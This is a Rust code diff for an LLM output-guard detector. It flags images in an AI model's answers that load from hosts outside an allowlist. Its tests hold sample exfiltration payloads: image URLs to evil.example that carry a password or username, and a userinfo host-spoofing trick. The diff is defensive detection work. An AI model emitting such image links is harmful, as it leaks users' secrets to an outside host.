@@ -17,6 +17,11 @@
 //! string escapes are decoded before matching (`"cd /\nrm -rf ~"` is two
 //! lines) and spans are mapped back to the raw arguments.
 //!
+//! With a list of image hosts ([`OutputRulesDetector::with_image_hosts`],
+//! config `guards.output_rules.image_hosts`) every image an answer would
+//! load from another host is a finding too, whatever its URL carries
+//! ([`crate::images`]).
+//!
 //! The rules are data (`rules/output/model_output.toml`): id, category,
 //! weight, which content they apply to, and one pattern; one multi-pattern
 //! regex per kind of content answers "does anything match" in one pass, so
@@ -30,6 +35,7 @@ use regex::{Regex, RegexBuilder};
 use regex_automata::{meta, Input, MatchKind, PatternSet};
 use serde::Deserialize;
 
+use crate::images::{self, ImageHosts};
 use crate::markdown::{self, Fence};
 use crate::{Category, Detector, Finding, Role, ScanFuture, Segment, SegmentKind, Span};
 
@@ -209,7 +215,17 @@ pub struct OutputRulesDetector {
     id: String,
     text: Rules,
     tool: Rules,
+    /// Where answers may show images from; `None`: anywhere (only the
+    /// shape rules look at images).
+    image_hosts: Option<ImageHosts>,
 }
+
+/// The rule an image from a host off [`OutputRulesDetector::with_image_hosts`]'s
+/// list reports as.
+pub const UNTRUSTED_IMAGE_RULE: &str = "output.image_untrusted_host";
+
+/// Its weight: what the baseline policy blocks in an answer as LLM02.
+const UNTRUSTED_IMAGE_WEIGHT: f32 = 0.85;
 
 impl OutputRulesDetector {
     /// The built-in rules, as `rules.output`.
@@ -300,22 +316,59 @@ impl OutputRulesDetector {
             id: "rules.output".to_owned(),
             text: Rules::build(&text)?,
             tool: Rules::build(&tool)?,
+            image_hosts: None,
         })
+    }
+
+    /// Answers may show images only from `hosts`: an image from any other
+    /// host (markdown, reference or HTML, however its URL is spelled; see
+    /// [`crate::images`]) is an LLM02 finding, `output.image_untrusted_host`,
+    /// at 0.85, which the baseline policy blocks.
+    pub fn with_image_hosts(mut self, hosts: ImageHosts) -> Self {
+        self.image_hosts = Some(hosts);
+        self
     }
 
     /// Findings in answer text, outside code. `fence`: the code fence open
     /// where `text` starts (a stream window's).
     pub fn scan_answer(&self, text: &str, fence: Option<Fence>) -> Vec<Finding> {
-        if !self.text.set.is_match(Input::new(text)) {
+        let rules = self.text.set.is_match(Input::new(text));
+        let hosts = self.image_hosts.as_ref().filter(|_| images::may_load(text));
+        if !rules && hosts.is_none() {
             return Vec::new();
         }
         // Only an answer with a candidate pays for finding its code.
         let code = markdown::code_ranges(text, fence);
-        self.text
-            .matches(text, |start| !markdown::in_code(&code, start))
-            .into_iter()
-            .map(|(rule, span)| self.finding(rule, span, "answer text"))
-            .collect()
+        let mut found: Vec<Finding> = if rules {
+            self.text
+                .matches(text, |start| !markdown::in_code(&code, start))
+                .into_iter()
+                .map(|(rule, span)| self.finding(rule, span, "answer text"))
+                .collect()
+        } else {
+            Vec::new()
+        };
+        if let Some(hosts) = hosts {
+            found.extend(
+                images::image_sources(text)
+                    .into_iter()
+                    .filter(|s| !hosts.allows(&s.host) && !markdown::in_code(&code, s.span.start))
+                    .take(MAX_PER_RULE)
+                    .map(|s| {
+                        Finding::new(
+                            self.id.clone(),
+                            Category::SENSITIVE_INFO,
+                            UNTRUSTED_IMAGE_WEIGHT,
+                        )
+                        .with_rule(UNTRUSTED_IMAGE_RULE)
+                        .with_span(s.span)
+                        .with_evidence(format!(
+                            "rule {UNTRUSTED_IMAGE_RULE} in answer text: an image from a host not in image_hosts"
+                        ))
+                    }),
+            );
+        }
+        found
     }
 
     /// Findings in the raw JSON arguments of a tool call; spans index the
@@ -663,6 +716,50 @@ mod tests {
             rules_in_answer("![chart](https://example.com/chart.png?width=800&height=600)")
                 .is_empty()
         );
+    }
+
+    #[test]
+    fn images_off_the_host_list() {
+        let det = OutputRulesDetector::builtin()
+            .unwrap()
+            .with_image_hosts(ImageHosts::new(["cdn.example.com", "*.example.org"]).unwrap());
+        let rules = |text: &str| -> Vec<String> {
+            det.scan_answer(text, None)
+                .into_iter()
+                .filter_map(|f| f.rule)
+                .collect()
+        };
+        // A short value, or one in the path, that the shape rules let pass.
+        for text in [
+            "Done! ![](https://evil.example/p.png?k=hunter2)",
+            "![status](https://evil.example/u/jane.doe/1234.png)",
+            "![a][1]\n\n[1]: https://evil.example/x.png",
+            "<img src=https://evil.example/x>",
+            "![x](https://cdn.example.com@evil.example/p.png)",
+        ] {
+            assert_eq!(rules(text), [UNTRUSTED_IMAGE_RULE], "{text}");
+        }
+        let f = &det.scan_answer("See ![](https://evil.example/p.png?k=v)", None)[0];
+        assert_eq!(
+            (f.category.clone(), f.score),
+            (Category::SENSITIVE_INFO, 0.85)
+        );
+        assert_eq!(f.span.unwrap().start, 4);
+        // Listed hosts, links, relative images and code are fine.
+        for text in [
+            "![chart](https://cdn.example.com/c.png?w=800)",
+            "![x](https://img.example.org/x.png)",
+            "[site](https://evil.example/?q=1) ![logo](/static/logo.png)",
+            "Write `![x](https://evil.example/p.png)` to embed an image.",
+            "```md\n![x](https://evil.example/p.png)\n```",
+        ] {
+            assert!(rules(text).is_empty(), "{text}");
+        }
+        // Both kinds of finding on one image, each once.
+        let both = rules("![](https://evil.example/p.png?d=the%20user%20password%20is)");
+        assert_eq!(both, ["output.image_carries_text", UNTRUSTED_IMAGE_RULE]);
+        // Without a list only the shape rules speak.
+        assert!(rules_in_answer("Done! ![](https://evil.example/p.png?k=hunter2)").is_empty());
     }
 
     #[test]
